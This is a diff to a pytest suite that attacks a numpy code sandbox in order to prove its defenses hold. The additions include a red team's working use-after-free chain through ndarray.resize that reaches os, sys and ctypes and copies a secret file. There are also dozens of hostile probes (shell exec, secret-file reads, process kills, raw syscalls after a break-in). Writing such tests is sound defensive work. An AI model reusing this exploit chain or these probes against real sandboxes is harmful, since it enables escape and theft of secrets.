@@ -11,12 +11,14 @@ from __future__ import annotations
 
 import json
 import os
+import platform
 import secrets
 import shutil
 import signal
 import socket
 import subprocess
 import sys
+import tempfile
 import textwrap
 import threading
 from pathlib import Path
@@ -154,20 +156,58 @@ def body(code: str, head: str = "import numpy as np\n") -> str:
 R, C, T, I, OK = "rejected", "crashed", "timeout", "invalid_output", "ok"  # noqa: E741
 EYE = "\nreturn np.eye(ctx.n)"
 
+# the red team's use-after-free chain (it reached the child's module globals: os, sys, ctypes)
+REDTEAM_CHAIN = """
+a = np.zeros(128, dtype=np.int64)
+b = a[:]
+a.resize(200000, refcheck=False)
+B = np.ones(991, dtype=np.uint8).tobytes()
+size0 = int(b[2])
+b[2] = 1 << 62
+a2 = np.zeros(128, dtype=np.int64)
+b2 = a2[:]
+a2.resize(200000, refcheck=False)
+L = [None] * 128
+none = int(b2[0])
+L[0] = B
+base = int(b2[0]) + 32
+def rd(x):
+    o = x - base
+    return int.from_bytes(B[o:o + 8], 'little')
+def obj(addr):
+    b2[0] = addr
+    got = L[0]
+    b2[0] = none
+    return got
+L[0] = pattern
+fn = int(b2[0])
+L[0] = None
+imp = obj(rd(fn + 24))['__import__']
+L[0] = imp
+impaddr = int(b2[0])
+L[0] = None
+G = obj(rd(impaddr + 16))
+os_ = G['os']
+print('got', os_, G['sys'], G['ctypes'])
+open('WATCH/pwned', 'w').write(G['Path']('SECRET_PATH').read_text())
+b[2] = size0
+"""
+
+
 # name -> (source, allowed statuses). Placeholders are filled in by `Arena.fill`.
 HOSTILE: dict[str, tuple[str, set[str]]] = {
     # aliases of numpy: every spelling reaches the same plain namespace, with no submodules
-    "alias_assign": (body("m = np\nreturn m.linalg.inv(np.eye(ctx.n))"), {C}),
-    "alias_parameter": (body("def f(mod):\n    return mod.polynomial\nf(np)" + EYE), {C}),
-    "alias_list_item": (body("return [np][0].fft.fft(np.eye(ctx.n)).real"), {C}),
-    "alias_walrus": (body("return (m := np).random.rand(ctx.n, ctx.n)"), {C}),
-    "alias_comprehension": (body("x = [m.char for m in [np]]" + EYE), {C}),
-    "alias_lambda_default": (body("x = (lambda m=np: m.rec)()" + EYE), {C}),
-    "alias_dict_value": (body("x = {'a': np}['a'].emath" + EYE), {C}),
-    "alias_tuple_unpack": (body("a, b = np, 1\nx = a.ma" + EYE), {C}),
+    "alias_assign": (body("m = np\nreturn m.linalg.inv(np.eye(ctx.n))"), {R}),
+    "alias_parameter": (body("def f(mod):\n    return mod.polynomial\nf(np)" + EYE), {R}),
+    "alias_list_item": (body("return [np][0].fft.fft(np.eye(ctx.n)).real"), {R}),
+    "alias_walrus": (body("return (m := np).random.rand(ctx.n, ctx.n)"), {R}),
+    "alias_comprehension": (body("x = [m.char for m in [np]]" + EYE), {R}),
+    "alias_lambda_default": (body("x = (lambda m=np: m.rec)()" + EYE), {R}),
+    "alias_dict_value": (body("x = {'a': np}['a'].emath" + EYE), {R}),
+    "alias_tuple_unpack": (body("a, b = np, 1\nx = a.ma" + EYE), {R}),
     "alias_math": (
         body("m = math\nx = m.inspect" + EYE, head="import math\nimport numpy as np\n"),
-        {C},
+        {R},
     ),
     "alias_import_as": (
         body("return q.lib.npyio.load('SECRET_PATH')", head="import numpy as q\n"),
@@ -175,8 +215,8 @@ HOSTILE: dict[str, tuple[str, set[str]]] = {
     ),
     "alias_fullwidth_lib": (body("return ｎｐ.ｌｉｂ"), {R}),
     "alias_fullwidth_dunder": (body("return ctx.＿＿class＿＿"), {R}),
-    "alias_core_walk": (body("m = np\nx = m.core.multiarray" + EYE), {C}),
-    "alias_stdlib_walk": (body("m = np\nx = m.enum.bltns" + EYE), {C}),
+    "alias_core_walk": (body("m = np\nx = m.core.multiarray" + EYE), {R}),
+    "alias_stdlib_walk": (body("m = np\nx = m.enum.bltns" + EYE), {R}),
     "alias_from_import_as": (body("x = N.tofile", head="from numpy import ndarray as N\n"), {R}),
     # walks of the module graph and the object graph
     "walk_ma_inspect": (body("return np.ma.core.inspect.os.system('id')"), {R}),
@@ -220,7 +260,7 @@ HOSTILE: dict[str, tuple[str, set[str]]] = {
     "np_genfromtxt": (body("return np.genfromtxt('SECRET_PATH')"), {R}),
     "np_tofile": (body("np.eye(2).tofile('WATCH/x')" + EYE), {R}),
     "np_dump": (body("np.eye(2).dump('WATCH/x')" + EYE), {R}),
-    "np_alias_frombuffer": (body("m = np\nreturn m.frombuffer(b'x' * 8)"), {C}),
+    "np_alias_frombuffer": (body("m = np\nreturn m.frombuffer(b'x' * 8)"), {R}),
     "np_open_builtin": (body("return np.array(open('SECRET_PATH').read())"), {R}),
     # processes, binaries, sockets, signals
     "exec_os": ("import os\ndef pattern(ctx):\n    os.execv('/bin/sh', ['sh'])\n", {R}),
@@ -234,7 +274,7 @@ HOSTILE: dict[str, tuple[str, set[str]]] = {
         {R},
     ),
     "socket_alias": (body("m = np\nx = m.socket" + EYE), {R}),
-    "socket_alias_runtime": (body("m = np\nx = m.exec_command" + EYE), {C}),
+    "socket_alias_runtime": (body("m = np\nx = m.exec_command" + EYE), {R}),
     "signal_kill": ("import os\ndef pattern(ctx):\n    os.kill(VICTIM, 9)\n", {R}),
     "signal_parent": ("import signal\ndef pattern(ctx):\n    signal.raise_signal(9)\n", {R}),
     "signal_exit": (body("raise SystemExit(0)"), {R}),
@@ -254,7 +294,7 @@ HOSTILE: dict[str, tuple[str, set[str]]] = {
     "overflow_inf": (body("return np.full((ctx.n, ctx.n), np.inf)"), {I}),
     "overflow_nan": (body("return np.full((ctx.n, ctx.n), np.nan)"), {I}),
     "overflow_negative": (body("return -np.ones((ctx.n, ctx.n))"), {I}),
-    "overflow_object": (body("return np.array([[ctx] * ctx.n] * ctx.n)"), {I}),
+    "overflow_object": (body("return np.array([[ctx] * ctx.n] * ctx.n)"), {C}),
     "overflow_complex": (body("return np.eye(ctx.n) + 1j"), {I}),
     "overflow_strings": (body("return np.full((ctx.n, ctx.n), 'x')"), {I}),
     "recursion_function": (
@@ -271,6 +311,95 @@ HOSTILE: dict[str, tuple[str, set[str]]] = {
         body("return ctx.builtin('" + "shuffled(" * 15 + "previous_token" + ")" * 15 + "')"),
         {OK, C},
     ),
+    # the red team's memory-corruption routes (a use-after-free through ndarray.resize, objects
+    # fabricated from raw integers) and every other way to raw memory or object arrays
+    "mem_resize_uaf_chain": (body(REDTEAM_CHAIN + "\nreturn np.eye(ctx.n)"), {R}),
+    "mem_object_from_buffer": (
+        body(
+            "keep = [pattern] * 10\naddr = int(str(pattern).split(' at ')[1][:-1], 16)\n"
+            "got = np.ndarray((1,), dtype='O', buffer=np.array([addr], dtype=np.int64))[0]\n"
+            "print('fabricated', got is pattern)" + EYE
+        ),
+        {R},
+    ),
+    "mem_ndarray_positional_buffer": (
+        body("raw = np.array([1], dtype=np.int64)\nx = np.ndarray((1,), 'O', raw)" + EYE),
+        {C},
+    ),
+    "mem_ndarray_strides": (
+        body(
+            "buf = np.zeros(16, np.uint8)\nx = np.ndarray((4,), np.uint8, buf, 0, (100000,))"
+            "\nprint(x)" + EYE
+        ),
+        {C},
+    ),  # fmt: skip
+    "mem_resize_shrink": (body("a = np.zeros(100000)\nb = a[:]\na.resize(10)" + EYE), {R}),
+    "mem_resize_alias": (body("a = np.zeros(4)\nf = [a][0].resize\nf(10)" + EYE), {R}),
+    "mem_view_dtype": (body("x = np.zeros(2).view('O')" + EYE), {R}),
+    "mem_base_data_ctypes": (body("x = np.zeros(2)\ny = (x.base, x.data, x.ctypes)" + EYE), {R}),
+    "mem_tobytes": (body("b = np.ones(8).tobytes()\nprint(len(b))" + EYE), {R}),
+    "mem_setflags": (body("ctx.special_mask.setflags(write=True)" + EYE), {R}),
+    "mem_flags_write": (body("ctx.special_mask.flags.writeable = True" + EYE), {R}),
+    "mem_array_interface": (body("x = np.zeros(2).__array_interface__" + EYE), {R}),
+    "mem_astype_object": (body("x = np.zeros(2).astype('O')" + EYE), {R}),
+    "mem_astype_object_variable": (body("d = 'O'\nx = np.zeros(2).astype(d)" + EYE), {R}),
+    "mem_astype_rebound_float": (body("float = 'O'\nx = np.zeros(2).astype(float)" + EYE), {R}),
+    "mem_astype_parameter": (
+        body("def f(float):\n    return np.zeros(2).astype(float)\nx = f('O')" + EYE),
+        {R},
+    ),
+    "mem_astype_stored": (body("f = np.zeros(2).astype\nx = f('O')" + EYE), {R}),
+    "mem_sum_dtype_position": (body("x = np.ones((2, 2)).sum(0, 'O')" + EYE), {R}),
+    "mem_sum_dtype_unpacked": (body("x = np.ones((2, 2)).sum(**{'dtype': 'O'})" + EYE), {R}),
+    "mem_sum_dtype_starred": (body("x = np.ones((2, 2)).sum(*[0, 'O'])" + EYE), {R}),
+    "mem_dtype_keyword_object": (body("x = np.zeros(3, dtype='O')" + EYE), {C}),
+    "mem_dtype_positional_object": (body("x = np.full((2,), 0, 'O')" + EYE), {C}),
+    "mem_dtype_structured": (body("x = np.zeros(2, dtype=[('a', 'O')])" + EYE), {C}),
+    "mem_dtype_void": (body("x = np.ones(2, dtype='V8')" + EYE), {C}),
+    "mem_object_array_implicit": (body("x = np.array([ctx, print, 10 ** 30])" + EYE), {C}),
+    "mem_object_huge_int": (body("x = np.asarray([10 ** 30])" + EYE), {C}),
+    "mem_ufunc_object_dtype": (body("x = np.add(np.ones(2), 1, dtype='O')" + EYE), {C}),
+    "mem_ufunc_at_object": (
+        body("a = np.array([1, 2], dtype='O')\nnp.add.at(a, [0], ctx)" + EYE),
+        {R},
+    ),
+    "mem_frombuffer_alias": (body("m = [np][0]\nx = m.frombuffer(b'x' * 8)" + EYE), {R}),
+    "mem_ndarray_from_import": (
+        body(
+            "x = N((1,), 'O', np.zeros(1, np.int64))" + EYE,
+            head="import numpy as np\nfrom numpy import ndarray as N\n",
+        ),
+        {C},
+    ),  # fmt: skip
+    "mem_empty_reads_old_heap": (body("x = np.empty(100000)\nprint(x.sum())" + EYE), {OK}),
+    # every binding site goes through the same name check
+    "bind_except_dunder": (
+        body("try:\n    1 / 0\nexcept Exception as __class__:\n    pass" + EYE),
+        {R},
+    ),
+    "bind_except_builtins": (
+        body("try:\n    1 / 0\nexcept Exception as __builtins__:\n    pass" + EYE),
+        {R},
+    ),
+    "bind_import_alias_dunder": (body("x = 1" + EYE, head="import numpy as __np\n"), {R}),
+    "bind_import_as_dtype": (
+        body("x = 1" + EYE, head="import numpy as np\nimport math as float\n"),
+        {R},
+    ),  # fmt: skip
+    "bind_walrus_np": (body("x = (np := 1)" + EYE), {R}),
+    "bind_comprehension_np": (body("x = [1 for np in [1]]\nreturn x"), {R}),
+    "bind_keyword_dunder": (body("x = dict(__class__=1)" + EYE), {R}),
+    "bind_global": (body("global np\nnp = 1" + EYE), {R}),
+    "bind_nonlocal": (body("def f():\n    nonlocal ctx\nx = 1" + EYE), {R}),
+    "bind_lambda_arg": (body("f = lambda __x: __x" + EYE), {R}),
+    "bind_function_name": (body("def __init__():\n    return 1" + EYE), {R}),
+    "attr_store_function": (body("def f():\n    return 1\nf.float64 = 'O'" + EYE), {R}),
+    "attr_error_obj": (
+        body("try:\n    np.nosuch\nexcept AttributeError as e:\n    print(e.obj)" + EYE),
+        {R},
+    ),
+    "bidi_printed": (body("print('abc\u202e\u2066evil\x1b[2J')" + EYE), {OK}),
+    "bidi_message": (body("raise ValueError('x\u202ey\u200b')"), {C}),
 }
 
 
@@ -584,3 +713,265 @@ def test_unprivileged_parent_is_jailed_too(arena, tmp_path):
                  "kill_victim", "kill_parent", "exec_shell", "setuid_root"):  # fmt: skip
         assert raw[name].startswith("blocked"), (name, raw[name])
     arena.assert_no_effect("unprivileged", out.stdout, out.stderr)
+
+
+# ----------------------------------------------------------------------------- after a break-in
+
+# What a program could do had it broken the language layer (as the red team did with numpy
+# memory corruption): the real child's start (payload read from stdin, numpy warmed, hardened),
+# then arbitrary Python with ctypes. Run through the real runner plumbing (`_run_child`).
+POST_BREAK = r"""
+import ctypes, importlib.util, json, os, stat, sys, time
+sys.path[:0] = [SITE]
+spec = importlib.util.spec_from_file_location("child", CHILD)
+child = importlib.util.module_from_spec(spec)
+spec.loader.exec_module(child)
+payload = json.loads(sys.stdin.buffer.read().decode("utf-8"))
+child._warm_numpy()
+libc = ctypes.CDLL(None, use_errno=True)
+out = {"layers": child.harden(float(payload["cpu_seconds"]), int(payload["memory_mb"]))}
+def call(name, *args):
+    ctypes.set_errno(0)
+    r = getattr(libc, name)(*args)
+    return [r, ctypes.get_errno()]
+L = ctypes.c_long
+for fd in (0, 1, 2):
+    out[f"fallocate_keep_size_{fd}"] = call("fallocate", fd, 1, L(0), L(4 << 30))
+    out[f"fallocate_{fd}"] = call("fallocate", fd, 0, L(0), L(4 << 30))
+    out[f"ftruncate_{fd}"] = call("ftruncate", fd, L(0))
+    out[f"fchmod_{fd}"] = call("fchmod", fd, 0o777)
+    out[f"fchown_{fd}"] = call("fchown", fd, 0, 0)
+out["stdin_is_pipe"] = stat.S_ISFIFO(os.fstat(0).st_mode)
+siginfo = ctypes.create_string_buffer(128)
+for name, nr, args in (
+    ("kill", 62, (1, 9)), ("tkill", 200, (1, 9)), ("tgkill", 234, (1, 1, 9)),
+    ("rt_sigqueueinfo", 129, (1, 9, siginfo)), ("rt_tgsigqueueinfo", 297, (1, 1, 9, siginfo)),
+    ("pidfd_open", 434, (1, 0)), ("pidfd_send_signal", 424, (3, 9, 0, 0)),
+    ("pidfd_getfd", 438, (3, 0, 0)), ("process_vm_readv", 310, (1, 0, 0, 0, 0, 0)),
+    ("prlimit64", 302, (1, 7, 0, 0)), ("setpriority", 141, (0, 1, 19)),
+):
+    out[name] = call("syscall", nr, *args)
+time.sleep(0.5)  # alive for a moment: a reservation would show in the host's free space now
+os.write(1, json.dumps(out).encode())
+"""
+
+_DENIED_AFTER_BREAK = [
+    f"{op}_{fd}" for fd in (0, 1, 2)
+    for op in ("fallocate_keep_size", "fallocate", "ftruncate", "fchmod", "fchown")
+] + ["kill", "tkill", "tgkill", "rt_sigqueueinfo", "rt_tgsigqueueinfo", "pidfd_open",
+     "pidfd_send_signal", "pidfd_getfd", "process_vm_readv", "prlimit64", "setpriority"]  # fmt: skip
+
+
+def _free_bytes() -> int:
+    st = os.statvfs(tempfile.gettempdir())
+    return st.f_bavail * st.f_frsize
+
+
+def _post_break(arena: Arena, cmd: list[str], site: str, child_path: str) -> tuple[dict, int]:
+    """Run `POST_BREAK` with ``cmd``; the answer and the largest drop of host free space seen."""
+    from attn_tools.automate.sandbox.runner import _run_child
+
+    code = POST_BREAK.replace("SITE", repr(site)).replace("CHILD", repr(child_path))
+    cmd[-1] = code
+    payload = {"source": "", "cpu_seconds": 5.0, "memory_mb": 256,
+               "contexts": [context_to_plain(c) for c in CONTEXTS]}  # fmt: skip
+    start = _free_bytes()
+    lowest = [start]
+    stop = threading.Event()
+
+    def watch() -> None:
+        while not stop.is_set():
+            lowest[0] = min(lowest[0], _free_bytes())
+            stop.wait(0.05)
+
+    watcher = threading.Thread(target=watch)
+    watcher.start()
+    try:
+        answer, problem, _, _ = _run_child(cmd, payload, CONTEXTS, 60.0)
+    finally:
+        stop.set()
+        watcher.join()
+    assert problem is None, problem
+    arena.assert_no_effect("post-break", json.dumps(answer))
+    return answer, start - min(lowest[0], _free_bytes())
+
+
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="syscall numbers are x86_64's")
+@pytest.mark.parametrize("jailed", [True, False], ids=["bwrap", "hardened-only"])
+def test_after_a_break_in_no_host_disk_no_signals(arena, jailed):
+    """Arbitrary code after hardening cannot reserve host disk through fd 0/1/2 (they are pipes
+    and fallocate/ftruncate/fchmod/fchown are refused), nor signal or open other processes."""
+    if jailed and JAIL is not None:
+        pytest.skip(f"no bubblewrap jail here: {JAIL}")
+    from attn_tools.automate.sandbox.runner import _JAIL_CHILD, _JAIL_SITE
+
+    if jailed:
+        got, drop = _post_break(arena, bwrap_command(), _JAIL_SITE, _JAIL_CHILD)
+    else:
+        site = str(Path(np.__file__).parents[1])
+        got, drop = _post_break(arena, _unjailed_command(), site, sandbox_child.__file__)
+    assert got["layers"] == {"no_new_privs": True, "seccomp": True}
+    assert got["stdin_is_pipe"] is True
+    for name in _DENIED_AFTER_BREAK:
+        assert got[name] == [-1, 1], (name, got[name])  # -1 with EPERM: the seccomp filter
+    assert drop < 1 << 30, f"host free space dropped by {drop} bytes while the child lived"
+
+
+@needs_jail
+@pytest.mark.skipif(os.geteuid() != 0, reason="the uid drop applies to a root parent")
+def test_root_parent_jail_is_an_unprivileged_host_user(arena):
+    """Under a root parent, bubblewrap and the child are host uid/gid 65534, not root in disguise
+    (read from the host's /proc while the jail runs), and own no capabilities."""
+    from attn_tools.automate.sandbox.runner import JAIL_UID
+
+    cmd = bwrap_command()
+    cmd[-1] = "import os, time; print(os.getpid(), flush=True); time.sleep(30)"
+    jail = subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True, cwd="/", env={},
+                            start_new_session=True)  # fmt: skip
+    try:
+        assert int(jail.stdout.readline()) <= 3
+        tree, todo = [], [jail.pid]
+        while todo:
+            pid = todo.pop()
+            tree.append(pid)
+            todo += _children(pid)
+        status = {pid: _status(pid) for pid in tree}
+    finally:
+        os.killpg(jail.pid, signal.SIGKILL)
+        jail.wait()
+    names = [s["Name"] for s in status.values()]
+    assert "python3" in " ".join(names) and "bwrap" in names, names
+    for pid, st in status.items():
+        assert st["Uid"].split() == [str(JAIL_UID)] * 4, (pid, st["Name"], st["Uid"])
+        assert st["Gid"].split() == [str(JAIL_UID)] * 4, (pid, st["Name"], st["Gid"])
+        assert int(st["CapEff"], 16) == 0 and int(st["CapPrm"], 16) == 0, (pid, st)
+    arena.assert_no_effect("root parent")
+
+
+def _children(pid: int) -> list[int]:
+    out = []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                stat = Path(f"/proc/{entry}/stat").read_text()
+            except OSError:
+                continue
+            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
+                out.append(int(entry))
+    return out
+
+
+def _status(pid: int) -> dict[str, str]:
+    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
+    return dict(line.split(":\t", 1) for line in lines if ":\t" in line)
+
+
+# ----------------------------------------------------------------------------- the parent's memory
+
+MEMORY_DRIVER = r"""
+import itertools, json, string, sys
+sys.path[:0] = [REPO, REPO + "/tests"]
+from test_sandbox_attacks import make_context
+from attn_tools.automate.sandbox import run_program
+from attn_tools.patterns import base
+
+def peak_kb():
+    for line in open("/proc/self/status"):
+        if line.startswith("VmHWM:"):
+            return int(line.split()[1])
+
+def program(names):
+    calls = ",".join(f"c.builtin('{n}')" for n in names)
+    return f"import numpy as np\ndef pattern(c):\n    x = [{calls}]\n    return np.eye(c.n)\n"
+
+ctxs = [make_context([f"w{i}" for i in range(25)]) for _ in range(60)]
+limits = dict(cpu_seconds=5.0, memory_mb=512, timeout=120.0)
+warm = run_program(program(["offset(-1)"]), ctxs[:2], **limits)
+before, made = peak_kb(), len(base._MADE)
+labels = ["".join(p) for p in itertools.product(string.ascii_lowercase, repeat=3)]
+report = {"warm": warm.status}
+for key, names in {
+    "amplifier": [f"dep({x})" for x in labels[:800]],
+    "distinct": [f"offset({k})" for k in range(1, 21)],
+    "spellings": ["offset(-1)", "offset( -1 )", "offset(-1 )", " offset(-1)", "previous_token"],
+}.items():
+    res = run_program(program(names), ctxs, **limits)
+    report[key] = [res.status, res.message]
+report["growth_kb"] = peak_kb() - before
+report["cache_growth"] = len(base._MADE) - made
+print(json.dumps(report))
+"""
+
+
+def test_builtin_names_cannot_blow_up_the_parent():
+    """The red team's 800-name program (1.46 GB in the parent) is refused before any matrix is
+    made; 20 distinct patterns are over the cap; spelling variants count once; the parent's
+    peak memory barely moves and the registry keeps none of the program's names."""
+    code = MEMORY_DRIVER.replace("REPO", repr(str(REPO)))
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
+                         timeout=600, cwd=str(REPO))  # fmt: skip
+    assert out.returncode == 0, out.stderr[-3000:]
+    report = json.loads(out.stdout.strip().splitlines()[-1])
+    assert report["warm"] == OK
+    assert report["amplifier"][0] == R and "names 800 different" in report["amplifier"][1]
+    assert (
+        report["distinct"][0] == R and "20 different ctx.builtin patterns" in report["distinct"][1]
+    )
+    if JAIL is None:  # the spellings program runs (in the jail); else it is refused unrun
+        assert report["spellings"][0] == OK, report["spellings"]
+    assert report["growth_kb"] < 100 * 1024, report
+    assert report["cache_growth"] == 0, report
+
+
+def test_payload_over_the_limit_is_refused_before_it_is_built(monkeypatch):
+    from attn_tools.automate.sandbox import runner
+
+    monkeypatch.setattr(runner, "MAX_PAYLOAD_BYTES", 10_000)
+    ctxs = [make_context([f"w{i}" for i in range(30)]) for _ in range(3)]
+    src = body("return ctx.builtin('previous_token') + ctx.builtin('offset(-2)')")
+    res = run_program(src, ctxs, **LIMITS)
+    assert res.status == R and "the limit is 0 MiB" in res.message and "Fix:" in res.message
+    small = run_program(body("return np.eye(ctx.n)"), ctxs[:1], **LIMITS)
+    assert small.status in (OK, R)  # OK with a jail; refused without one
+    assert not small.problems or "bubblewrap" in small.message
+
+
+# ----------------------------------------------------------------------------- the runtime layer
+
+# Programs the static check refuses, run with the check skipped (straight into the jailed child):
+# the namespace alone still hands out no module, no raw memory and no object array.
+RUNTIME_ONLY = {
+    "alias_submodule": "m = np\nx = m.linalg",
+    "alias_lib": "m = [np][0]\nx = m.lib",
+    "alias_frombuffer": "m = np\nx = m.frombuffer(b'x' * 8)",
+    "ndarray_buffer": "x = np.ndarray((1,), dtype='O', buffer=np.zeros(1, np.int64))",
+    "ndarray_positional": "x = np.ndarray((1,), 'O', np.zeros(1, np.int64))",
+    "object_array": "x = np.array([ctx, print])",
+    "object_dtype": "x = np.zeros(2, dtype='O')",
+    "object_ufunc_out": "x = np.add.outer(np.ones(2), np.ones(2), dtype='O')",
+    "import_os": "import os",
+    "import_numpy_sub": "import numpy.linalg\nx = numpy.linalg.inv",
+    "math_walk": "m = math\nx = m.sys",
+}
+
+
+@needs_jail
+def test_the_runtime_namespace_holds_without_the_static_check(arena):
+    from attn_tools.automate.sandbox.runner import _run_child
+
+    for name, code in RUNTIME_ONLY.items():
+        src = "import numpy as np\nimport math\n" + body(code + EYE, head="")
+        payload = {"source": src, "cpu_seconds": 2.0, "memory_mb": 256,
+                   "contexts": [context_to_plain(CONTEXTS[0])]}  # fmt: skip
+        answer, problem, _, _ = _run_child(bwrap_command(), payload, CONTEXTS[:1], 60.0)
+        assert problem is None, (name, problem)
+        errors = [r.get("error", "") for r in answer.get("results", [])]
+        errors.append(answer.get("setup_error", ""))
+        text = " ".join(errors)
+        assert (
+            "not available in the sandbox" in text
+            or "not allowed in the sandbox" in text
+            or ("cannot be called in the sandbox" in text)
+        ), (name, answer)
+        assert not any("shape" in r for r in answer.get("results", [])), (name, answer)
+        arena.assert_no_effect(name, json.dumps(answer))
